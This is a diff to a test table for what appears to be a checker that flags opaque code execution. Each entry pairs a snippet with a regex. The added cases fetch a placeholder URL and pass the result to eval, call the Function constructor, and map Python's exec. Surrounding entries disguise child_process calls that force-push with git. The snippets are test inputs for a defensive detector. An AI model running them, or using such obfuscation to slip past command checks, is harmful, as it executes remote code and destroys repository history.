@@ -96,6 +96,10 @@ const OPAQUE: readonly (readonly [string, string, RegExp])[] = [
   ['node', 'require("child_" + "process").execSync("git push -f")', /\(require\)/],
   ['node', 'const cp = require("child_process"); cp["exec" + "Sync"]("git push -f")', /names a process function|\]\s*\(|run time/],
   ['node', 'eval("require(\'child_process\')")', /\(eval\)/],
+  // eval handed on as a value runs what it is given
+  ['node', 'fetch("https://h.example/x").then((r) => r.text()).then(eval)', /\(eval\)/],
+  ['node', 'const f = Function; f("return 1")()', /\(Function\)/],
+  ['python', 'list(map(exec, ["import os"]))', /\(exec\)/],
   ['node', 'process.binding("spawn_sync")', /process\s*\.\s*binding/],
   ['node', 'require("child_process").\\u0065xecSync("git push -f")', /\\u/],
   ['node', 'require("child_process").execSync(cmd)', /run time \(execSync\)/],
